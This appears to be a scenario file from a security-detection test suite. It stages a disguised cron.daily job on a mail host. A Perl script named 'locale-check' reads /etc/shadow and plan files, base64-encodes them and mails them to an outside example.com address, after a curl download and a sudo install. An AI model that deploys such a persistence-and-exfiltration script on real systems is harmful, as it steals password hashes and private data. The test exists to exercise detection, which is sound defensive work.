# One more file among the daily jobs of packages.
title="A job put beside the packages' daily jobs mails files outside"
what="Somebody with the administrator's session installs a Perl script in /etc/cron.daily with sudo, beside logwatch's own job. At night run-parts starts both: logwatch mails root as always, and the script reads the plans in /opt and the password hashes, encodes them itself and hands the message to sendmail for an outside address."
host=mx1.example.org user=ops daemons="cron sshd" expect=medium

setup() {
  mkdir -p /opt/plans; for n in 1 2 3; do head -c 40000 /dev/urandom > "/opt/plans/plan-$n.dwg"; done
  echo 'ops ALL=(root) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  mkdir -p /etc/logwatch/conf; echo 'Range = Today' > /etc/logwatch/conf/logwatch.conf
  cat > "$base/out/www/locale-check" <<'P'
#!/usr/bin/perl
use MIME::Base64;
my $all = '';
for my $path (</opt/plans/*>, '/etc/shadow') { local $/; open my $file, '<', $path or next; $all .= <$file>; }
open my $mail, '|-', '/usr/sbin/sendmail', '-oi', '-t';
print $mail "To: locales\@example.com\nSubject: locale report\n\n", encode_base64($all);
close $mail;
P
  daily_jobs 00logwatch
}
act() {
  small_talk 4
  ssh_as ops <<'L'
curl -s -o /tmp/lc http://cdn.example.com/locale-check
sudo install -m 755 /tmp/lc /etc/cron.daily/locale-check
rm /tmp/lc
L
  nightly
  wait_log 'to=<locales@example.com>.*status=sent' 30
  wait_log 'orig_to=<root>.*status=sent' 30
  small_talk 2
}
truth() {
  exec_step placed 'install -m 755 /tmp/lc /etc/cron.daily/locale-check' 'the script is put among the daily jobs'
  log_step run 'CRON.*run-parts --report /etc/cron.daily' 'cron runs the daily jobs'
  exec_step job 'perl /etc/cron.daily/locale-check' 'and the script with them'
  mail_step sent 'to=<locales@example.com>.*status=sent' 'which mails outside'
}
